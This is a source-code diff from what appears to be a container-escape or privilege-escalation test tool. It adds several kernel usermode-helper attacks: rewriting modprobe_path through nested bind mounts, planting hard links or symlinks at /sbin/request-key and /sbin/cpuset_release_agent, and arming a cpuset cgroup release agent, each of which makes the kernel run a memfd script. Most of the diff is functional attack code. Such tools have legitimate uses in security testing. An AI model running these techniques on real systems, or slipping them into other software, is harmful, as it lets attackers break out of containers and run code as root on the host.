@@ -27,6 +27,7 @@
 #define MODPROBE_PATH "/proc/sys/kernel/modprobe"
 #define MODPROBE "/sbin/modprobe"
 #define REQUEST_KEY "/sbin/request-key"
+#define CPUSET_AGENT "/sbin/cpuset_release_agent"
 #define TOMOYO_LOADER "/sbin/tomoyo-init"
 #define TOMOYO_TRIGGER "/sbin/init"
 #define TOMOYO "/sys/kernel/security/tomoyo/"
@@ -61,17 +62,24 @@ static const char *prepare_memfd(void)
 	return err ? missing("a memfd", err) : NULL;
 }
 
-static const char *prepare_memfd_script(void)
+int make_program_without_path(void)
 {
 	program = memfd_create("helper", 0);
 	if (program < 0 || write(program, script, sizeof(script) - 1) < 0 ||
 	    fchmod(program, 0755) < 0)
-		return missing("a memfd", errno);
-	return NULL;
+		return errno;
+	return 0;
+}
+
+static const char *prepare_memfd_script(void)
+{
+	int err = make_program_without_path();
+
+	return err ? missing("a memfd", err) : NULL;
 }
 
 /* The program is named by a path, and has none: no attachment knows it. */
-static const char *program_path(void)
+const char *program_without_path(void)
 {
 	static char path[60];
 
@@ -149,7 +157,7 @@ static int run_core_descriptor(void)
 {
 	char pattern[100];
 
-	(void)snprintf(pattern, sizeof(pattern), "|%s escapee", program_path());
+	(void)snprintf(pattern, sizeof(pattern), "|%s escapee", program_without_path());
 	return dump_core_by(pattern);
 }
 
@@ -160,7 +168,7 @@ static int run_core_file(void)
 }
 
 /* A file system that nobody has: the kernel asks for its module, whoever the caller is. */
-static int ask_for_module(const char *type)
+int ask_for_module(const char *type)
 {
 	if (syscall(SYS_fsopen, type, 0) >= 0 || errno != ENODEV)
 		return EINVAL;
@@ -192,10 +200,29 @@ static int run_modprobe_memfd(void)
 {
 	char folder[200], path[260];
 
-	if (!getcwd(folder, sizeof(folder)) || symlink(program_path(), "escapee") < 0)
+	if (!getcwd(folder, sizeof(folder)) || symlink(program_without_path(), "escapee") < 0)
 		return errno;
 	(void)snprintf(path, sizeof(path), "%s/escapee", folder);
 	return load_module_by(path);
+}
+
+/* A bind mount has the name of where it is, and what lies below it has another one by the next. */
+static int run_modprobe_bind(void)
+{
+	char was[200] = MODPROBE;
+	int err;
+
+	if (mkdir("above", 0755) < 0 || mkdir("below", 0755) < 0 ||
+	    mount("/proc/sys", "above", NULL, MS_BIND, NULL) < 0 ||
+	    mount("above/kernel", "below", NULL, MS_BIND, NULL) < 0)
+		return errno;
+	(void)read_small(MODPROBE_PATH, was, sizeof(was));
+	err = write_small("below/modprobe", ESCAPEE);
+	if (err)
+		return err;
+	err = ask_for_module("attack-modprobe-bind");
+	(void)write_small("below/modprobe", was);
+	return err;
 }
 
 /* Not the path of the program is changed but the program. */
@@ -219,7 +246,7 @@ static int run_modprobe_link(void)
 
 	if (rename(MODPROBE, MODPROBE ".kept") < 0)
 		return errno;
-	if (symlink(program_path(), MODPROBE) < 0)
+	if (symlink(program_without_path(), MODPROBE) < 0)
 		err = errno;
 	if (!err)
 		err = ask_for_module("attack-modprobe-link");
@@ -239,6 +266,22 @@ static int run_request_key(void)
 	return err == ENOSYS ? impossible(err, "CONFIG_KEYS is not set") : err;
 }
 
+/* A file's second name asks for "l", not for "w", and a symbolic link may have a second name. */
+static int run_request_key_link(void)
+{
+	int err = 0;
+
+	if (symlink(program_without_path(), REQUEST_KEY ".link") < 0)
+		return errno;
+	if (link(REQUEST_KEY ".link", REQUEST_KEY) < 0)
+		err = errno;
+	if (!err && syscall(SYS_request_key, "user", "initward:link", "x", 0) < 0)
+		err = errno;
+	(void)unlink(REQUEST_KEY);
+	(void)unlink(REQUEST_KEY ".link");
+	return err == ENOSYS ? impossible(err, "CONFIG_KEYS is not set") : err;
+}
+
 /*
  * security/tomoyo/load_policy.c: the first execution of "/sbin/init" that finds this program starts it, once in
  * a boot, and panics afterwards where no profile is there.
@@ -253,7 +296,7 @@ static int run_tomoyo(void)
 	if (access(TOMOYO "profile", F_OK) < 0)
 		return impossible(errno, "TOMOYO is off, or not built in");
 	err = write_small(TOMOYO "profile", profile);
-	if (!err && symlink(program_path(), TOMOYO_LOADER) < 0)
+	if (!err && symlink(program_without_path(), TOMOYO_LOADER) < 0)
 		err = errno;
 	if (err)
 		return err;
@@ -317,6 +360,38 @@ int release_cgroup_to(const char *agent)
 	return err ? err : release_cgroup();
 }
 
+/*
+ * The same hierarchy of old, under a name of its own, with an agent that is built in. The file that arms it is
+ * named otherwise by a bind.
+ */
+static int run_cpuset_agent(void)
+{
+	char processors[80] = "0";
+	int status = 0, err = 0;
+	pid_t pid;
+
+	if (mkdir("cs", 0755) < 0 || mknod("armed", S_IFREG | 0600, 0) < 0)
+		return errno;
+	if (mount("none", "cs", "cpuset", 0, NULL) < 0)
+		return errno == ENODEV ? impossible(errno, "CONFIG_CPUSETS_V1 is not set") : errno;
+	(void)read_small("cs/cpus", processors, sizeof(processors));
+	if (mkdir("cs/released", 0755) < 0 || symlink(program_without_path(), CPUSET_AGENT) < 0)
+		return errno;
+	if (write_small("cs/released/cpus", processors) || write_small("cs/released/mems", "0") ||
+	    mount("cs/released/notify_on_release", "armed", NULL, MS_BIND, NULL) < 0)
+		err = errno;
+	if (!err)
+		err = write_small("armed", "1");
+	pid = err ? -1 : fork();
+	if (pid == 0)
+		_exit(write_small("cs/released/tasks", "0"));
+	if (pid > 0 && waitpid(pid, &status, 0) == pid)
+		err = WEXITSTATUS(status);
+	(void)usleep(200 * 1000); /* the agent is started by a work queue */
+	(void)unlink(CPUSET_AGENT);
+	return err;
+}
+
 /* The same by the mount, without the file. */
 static int run_release_agent_option(void)
 {
@@ -332,7 +407,7 @@ static int run_release_agent_fsconfig(void)
 		return errno;
 	if (syscall(SYS_fsconfig, context, 0 /* FLAG */, "none", NULL, 0) < 0 ||
 	    syscall(SYS_fsconfig, context, 1 /* STRING */, "name", "fsconfig", 0) < 0 ||
-	    syscall(SYS_fsconfig, context, 1, "release_agent", program_path(), 0) < 0 ||
+	    syscall(SYS_fsconfig, context, 1, "release_agent", program_without_path(), 0) < 0 ||
 	    syscall(SYS_fsconfig, context, 6 /* CREATE */, NULL, NULL, 0) < 0)
 		return errno;
 	hierarchy = (int)syscall(SYS_fsmount, context, 0, 0);
@@ -404,7 +479,13 @@ const struct attack helper_attacks[] = {
 	  run_modprobe_file, WAITS },
 	{ "modprobe-link", "call_modprobe(): a link to a memfd is put in its place",
 	  prepare_memfd_script, run_modprobe_link, WAITS },
+	{ "modprobe-bind", "call_modprobe(): the path, by a bind of a bind", NULL,
+	  run_modprobe_bind, WAITS },
 	{ "request-key", "call_sbin_request_key()", NULL, run_request_key, WAITS },
+	{ "request-key-link", "call_sbin_request_key() of a hard link to a link",
+	  prepare_memfd_script, run_request_key_link, WAITS },
+	{ "cpuset-agent", "cgroup1_release_agent(), of the file system cpuset",
+	  prepare_memfd_script, run_cpuset_agent, WAITS },
 	{ "tomoyo-init", "tomoyo_load_policy(), of a memfd", prepare_memfd_script, run_tomoyo,
 	  WAITS },
 	{ "release-agent", "cgroup1_release_agent(), by the file", NULL, run_release_agent, WAITS },
